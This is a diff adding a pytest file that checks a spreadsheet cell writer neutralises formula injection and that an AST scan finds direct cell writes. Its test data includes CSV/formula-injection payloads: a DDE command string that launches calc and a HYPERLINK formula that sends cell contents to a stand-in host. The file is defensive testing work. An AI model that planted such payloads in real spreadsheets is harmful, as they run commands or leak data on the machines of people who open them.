@@ -1,0 +1,117 @@
+"""The one cell writer: text stays text, numbers and dates keep their type, and every workbook
+builder writes through it."""
+
+import ast
+import datetime
+import io
+import re
+import zipfile
+from decimal import Decimal
+
+import pytest
+from openpyxl import Workbook, load_workbook
+from openpyxl.cell.cell import Cell
+
+from committees.xlsx_write import looks_like_formula, put
+from tests.surveys.test_dependencies import ROOT
+
+TEXTS = ['=HYPERLINK("http://x"&A1,"点我")', "+1", "-2", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def saved(values: list) -> tuple[bytes, list[Cell]]:
+    book = Workbook()
+    for row, value in enumerate(values, start=1):
+        put(book.active, row, 1, value)
+    out = io.BytesIO()
+    book.save(out)
+    data = out.getvalue()
+    return data, [row[0] for row in load_workbook(io.BytesIO(data)).active.iter_rows()]
+
+
+def test_text_that_looks_like_a_formula_is_quote_prefixed_text():
+    data, cells = saved(list(TEXTS))
+    assert [c.value for c in cells] == list(TEXTS)
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert not re.search(r"<(\w+:)?f[ >]", archive.read("xl/worksheets/sheet1.xml").decode())
+
+
+def test_other_text_is_plain_text_and_an_error_code_is_text_too():
+    _data, cells = saved(["张三", "#N/A", "a=b", "1-2"])
+    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
+        ("张三", "s", False),
+        ("#N/A", "s", False),
+        ("a=b", "s", False),
+        ("1-2", "s", False),
+    ]
+
+
+def test_numbers_dates_and_booleans_keep_their_type():
+    _data, cells = saved([Decimal("12.50"), -3, 2.5, datetime.date(2013, 6, 13), True, None, "末行"])
+    assert [c.value for c in cells[:3]] == [12.5, -3, 2.5] and all(c.data_type == "n" for c in cells[:3])
+    assert cells[3].is_date and cells[3].value == datetime.datetime(2013, 6, 13)
+    assert (cells[4].value, cells[4].data_type) == (True, "b")
+    assert cells[5].value is None
+
+
+def test_it_keeps_a_date_format_the_cell_already_has():
+    ws = Workbook().active
+    cell = ws.cell(1, 1)
+    cell.number_format = "yyyy年m月d日"
+    put(ws, 1, 1, datetime.date(2024, 1, 2))
+    assert cell.number_format == "yyyy年m月d日"
+
+
+@pytest.mark.parametrize("text, expected", [("=1", True), ("-", True), ("张=", False), ("", False), (" =1", False)])
+def test_what_looks_like_a_formula(text, expected):
+    assert looks_like_formula(text) is expected
+
+
+def _direct_writes(path) -> list[str]:
+    """Places in a module that set a cell's value other than through committees.xlsx_write."""
+    found = []
+    for node in ast.walk(ast.parse(path.read_text())):
+        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
+            if node.func.attr == "cell" and (len(node.args) >= 3 or any(k.arg == "value" for k in node.keywords)):
+                found.append(f"{path}:{node.lineno} .cell(row, column, value)")
+            receiver = node.func.value
+            if node.func.attr == "append" and isinstance(receiver, ast.Name) and receiver.id in SHEET_NAMES:
+                found.append(f"{path}:{node.lineno} {receiver.id}.append(…)")
+        targets = (
+            node.targets if isinstance(node, ast.Assign) else [node.target] if isinstance(node, ast.AugAssign) else []
+        )
+        for target in targets:
+            if isinstance(target, ast.Attribute) and target.attr == "value":
+                found.append(f"{path}:{node.lineno} ….value = …")
+            if (
+                isinstance(target, ast.Subscript)
+                and isinstance(target.value, ast.Name)
+                and target.value.id in SHEET_NAMES
+            ):
+                found.append(f"{path}:{node.lineno} {target.value.id}[…] = …")
+    return found
+
+
+SHEET_NAMES = {"ws", "sheet", "worksheet"}
+
+
+def test_no_module_writes_a_cell_but_through_the_one_writer():
+    """A builder that writes cells itself (ws.cell(r, c, v), ws.append, ws["A1"] = …, cell.value = …)
+    lets openpyxl take text beginning with "=" for a formula: it must call xlsx_write.put/write."""
+    modules = [
+        path
+        for app in ("committees", "surveys", "funding", "evaluations", "xishan_portal")
+        for path in (ROOT / app).rglob("*.py")
+        if "migrations" not in path.parts and path != ROOT / "committees" / "xlsx_write.py"
+    ]
+    assert len(modules) > 50
+    assert [place for path in modules for place in _direct_writes(path)] == []
+
+
+def test_the_scan_finds_each_kind_of_direct_write(tmp_path):
+    module = tmp_path / "builder.py"
+    module.write_text(
+        "ws.cell(1, 2, name)\nws.cell(1, 2, value=name)\nws.append(row)\nws['A1'] = name\ncell.value = name\n"
+        "ws.cell(1, 2).font = bold\nrows.append(row)\nput(ws, 1, 2, name)\n"
+    )
+    assert len(_direct_writes(module)) == 5
